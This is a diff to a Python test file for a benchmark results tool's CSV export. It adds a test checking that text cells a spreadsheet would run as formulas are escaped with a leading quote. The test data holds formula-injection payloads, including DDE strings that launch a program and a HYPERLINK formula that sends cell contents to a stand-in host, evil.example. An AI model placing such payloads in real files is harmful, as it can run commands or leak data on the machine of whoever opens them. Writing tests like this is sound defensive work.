@@ -7,10 +7,13 @@ times that are not times, and names that a spreadsheet would run as formulas.
    refused at import, naming the field, and runs at the bounds compare and report without overflowing.
 2. started_utc and created_utc are UTC times in devicebench's one form, none more than a day ahead of this
    machine's clock: `--last` is the latest by time.
+3. A CSV export escapes every text cell that a spreadsheet would run as a formula (OWASP's advice: a ' before it);
+   numbers, negative ones too, stay numbers.
 """
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import datetime
 import json
@@ -185,3 +188,45 @@ def test_2_last_is_the_latest_by_time_whatever_the_order_of_import(tmp_path, mak
     with Store(db) as store:
         (latest,) = store.results(last=1)
     assert [run.run_id for run in latest.runs] == ["new"]
+
+
+# --- 3. a CSV export runs no formula in a spreadsheet ----------------------------------------------------------------
+
+FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+            "\t=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1)"]
+# every text a run's row carries, by where it sits in the result's dict
+TEXT_FIELDS = [("machine", "machine_name"), ("run", "workload"), ("run", "seed_experiment"), ("run", "device"),
+               ("run", "device_name"), ("run", "error"), ("settings", "data_source"), ("settings", "precision"),
+               ("settings", "mode")]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_3_every_text_cell_that_a_spreadsheet_would_run_is_escaped_and_numbers_stay_numbers(
+        tmp_path, make_result, make_run, formula):
+    data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
+    run = data["runs"][0]
+    places = {"machine": data["machine"], "run": run, "settings": run["settings"]}
+    for place, name in TEXT_FIELDS:
+        places[place][name] = formula
+    run["settings"]["seed"] = -3  # numbers below zero: numbers, not formulas
+    run["epochs"][1]["train_loss"] = -0.25
+    db = tmp_path / "db.sqlite"
+    assert _import(tmp_path, db, data).exit_code == 0
+    assert cli.invoke(app, ["export", str(tmp_path / "out.csv"), "--db", str(db)]).exit_code == 0
+    with (tmp_path / "out.csv").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert len(rows) == 3  # one per epoch
+    for row in rows:
+        for column, cell in row.items():
+            assert _is_number(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+        assert all(row[name] == "'" + formula for _, name in TEXT_FIELDS)  # the text itself, shown as typed
+        assert row["seed"] == "-3"
+    assert [float(row["train_loss"]) for row in rows] == pytest.approx([2.0, -0.25, 2.0 / 3])
